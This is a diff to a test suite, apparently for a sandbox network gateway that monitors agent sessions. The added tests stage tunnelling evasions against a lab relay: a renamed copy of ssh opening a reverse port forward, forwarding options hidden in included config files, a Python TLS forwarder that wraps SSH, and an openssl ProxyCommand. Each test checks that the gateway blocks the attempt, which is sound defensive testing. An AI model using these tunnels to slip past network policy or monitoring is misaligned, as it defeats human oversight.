@@ -247,8 +247,49 @@ def test_ssh_to_an_allowed_web_name_is_refused(
     assert lab.sshd_connections() == connections
     refused = wait_events(session, EventKind.NET_CONNECT,
                           lambda e: e.get("net.dst_port") == 22)
-    assert refused and all(e.get("net.decision") == "deny" for e in refused)
-    assert refused[0].call_id == "ssh"
+    assert all(e.get("net.decision") == "deny" and e.call_id == "ssh" for e in refused)
+    # refused by the gateway (least privilege), or before it even connected: the exec of
+    # an ssh client with forwarding (a renamed copy is still ssh)
+    assert refused or [v for v in session.verdicts if v.rule_id == "tunnels.ssh_forward_exec"
+                       and v.call_id == "ssh"]
+
+
+def _forward_listening(lab: Lab, port: int = 9000) -> bool:
+    import socket
+
+    from bastion.gateway.netns import inside
+
+    with inside(lab.netns_path):
+        probe = socket.socket()
+    try:
+        probe.settimeout(1)
+        return probe.connect_ex((RELAY_IP, port)) == 0
+    finally:
+        probe.close()
+
+
+@pytest.mark.parametrize("attack", [
+    "/workspace/helper -N -o 'REMOTEFORWARD 9000 localhost:22' " + SSH_OPTS + f" root@{RELAY}",
+    "/workspace/helper -N -F /workspace/notes.txt relay",
+], ids=["renamed-uppercase-option", "renamed-config-file"])
+def test_renamed_ssh_with_forwarding_is_stopped_at_exec_even_where_ssh_is_allowed(
+        lab: Lab, make_session: Callable[..., Session], attack: str) -> None:
+    """SSH to the relay is allowed here, so the gateway carries it: the exec of a copy of
+    the ssh binary (made in an earlier call) whose options or config forward a port is
+    what stops it — identity by binary, options and config read as ssh reads them."""
+    session = make_session(policy({"domain": RELAY, "protocol": "ssh"}), lab=True)
+    _trusted_key(lab, session)
+    session.exec("cp /usr/bin/ssh /workspace/helper", call_id="copy")
+    session.write_file("/workspace/notes.txt",
+                       f"Host relay\n  HostName {RELAY}\n  User root\n  IdentityFile "
+                       "/workspace/id\n  Include /workspace/more.conf\n  StrictHostKeyChecking no\n"
+                       "  UserKnownHostsFile /dev/null\n  BatchMode yes\n")
+    session.write_file("/workspace/more.conf", "  remoteforward 9000 localhost:22\n")
+    session.exec(f"getent hosts {RELAY}; timeout 8 {attack}; echo rc=$?", call_id="tunnel")
+    found = [v for v in session.verdicts if v.rule_id == "tunnels.ssh_forward_exec"]
+    assert found and found[0].call_id == "tunnel"
+    assert "ssh_forward_remote" in found[0].message and "renamed" in found[0].message
+    assert not _forward_listening(lab)
 
 
 def test_allowed_ssh_is_an_event(lab: Lab, make_session: Callable[..., Session]) -> None:
@@ -260,16 +301,48 @@ def test_allowed_ssh_is_an_event(lab: Lab, make_session: Callable[..., Session])
     assert allowed and allowed[0].call_id == "ssh-ok" and allowed[0].pid is not None
 
 
+TLS_FORWARDER = r"""
+import socket, ssl, sys, threading
+listener = socket.socket(); listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+listener.bind(("127.0.0.1", 2222)); listener.listen(1)
+open("/workspace/fwd-ready", "w").close()
+local, _ = listener.accept()
+ctx = ssl.create_default_context(); ctx.check_hostname = False; ctx.verify_mode = ssl.CERT_NONE
+remote = ctx.wrap_socket(socket.create_connection(("relay.allowed.lab.test", 8443)),
+                         server_hostname="relay.allowed.lab.test")
+def pipe(a, b):
+    try:
+        while True:
+            data = a.recv(65536)
+            if not data:
+                break
+            b.sendall(data)
+    except OSError:
+        pass
+    for s in (a, b):
+        try:
+            s.shutdown(socket.SHUT_RDWR)
+        except OSError:
+            pass
+threading.Thread(target=pipe, args=(local, remote), daemon=True).start()
+pipe(remote, local)
+"""
+
+
 def test_ssh_inside_an_allowed_tls_channel_never_reaches_a_shell(
         lab: Lab, make_session: Callable[..., Session]) -> None:
+    """An SSH session wrapped in TLS to an allowed name and port (``protocol: tls``): a
+    local TLS forwarder (stunnel-like, no ALPN) and a plain ``ssh`` to it, so nothing
+    about the ssh command line gives it away. The gateway sees SSH's packet framing in
+    the TLS records and cuts the connection before a session channel opens."""
     session = make_session(policy({"domain": RELAY, "port": 8443, "protocol": "tls"}), lab=True)
     _trusted_key(lab, session)
-    logins = lab.shell_logins()
+    session.write_file("/workspace/fwd.py", TLS_FORWARDER)
+    logins, sessions = lab.shell_logins(), lab.shell_sessions()
     relayed = len([x for x in lab.relay_log() if x.startswith("tls-relay")])
-    proxy = (f"openssl s_client -quiet -connect {RELAY}:8443 -servername {RELAY} "
-             "2>/dev/null")
-    sessions = lab.shell_sessions()
-    r = session.exec(f"timeout 10 ssh {SSH_OPTS} -o 'ProxyCommand={proxy}' root@{RELAY} "
+    r = session.exec("python3 /workspace/fwd.py & "
+                     "while [ ! -e /workspace/fwd-ready ]; do sleep 0.05; done; "
+                     f"timeout 10 ssh {SSH_OPTS} -p 2222 root@127.0.0.1 "
                      "'echo SHELL-REACHED; sleep 3'; echo rc=$?", call_id="tls-ssh")
     assert "SHELL-REACHED" not in r.stdout
     # the relay did carry the TLS connection to its sshd: the gateway cut it inside,
@@ -277,9 +350,26 @@ def test_ssh_inside_an_allowed_tls_channel_never_reaches_a_shell(
     assert len([x for x in lab.relay_log() if x.startswith("tls-relay")]) > relayed
     assert lab.shell_sessions() == sessions
     assert lab.shell_logins() - logins <= 1
+    cut = wait_events(session, EventKind.NET_FLOW,
+                      lambda e: e.get("net.rule") == "gateway.ssh_in_tls")
+    assert cut and cut[0].call_id == "tls-ssh" and cut[0].get("net.shape") == "ssh"
     assert "tunnels.ssh_in_tls" in rules(session)
     verdict = next(v for v in session.verdicts if v.rule_id == "tunnels.ssh_in_tls")
     assert verdict.call_id == "tls-ssh"
+
+
+def test_ssh_with_a_proxy_command_is_stopped_as_it_starts(
+        lab: Lab, make_session: Callable[..., Session]) -> None:
+    session = make_session(policy({"domain": RELAY, "port": 8443, "protocol": "tls"}), lab=True)
+    _trusted_key(lab, session)
+    relayed = len([x for x in lab.relay_log() if x.startswith("tls-relay")])
+    proxy = f"openssl s_client -quiet -connect {RELAY}:8443 -servername {RELAY} 2>/dev/null"
+    r = session.exec(f"timeout 10 ssh {SSH_OPTS} -o 'ProxyCommand={proxy}' root@{RELAY} "
+                     "'echo SHELL-REACHED'; echo rc=$?", call_id="proxied")
+    assert "SHELL-REACHED" not in r.stdout
+    assert any(v.rule_id == "tunnels.ssh_forward_exec" and v.call_id == "proxied"
+               for v in session.verdicts)
+    assert len([x for x in lab.relay_log() if x.startswith("tls-relay")]) == relayed
 
 
 # -- 3. DNS -----------------------------------------------------------------------------
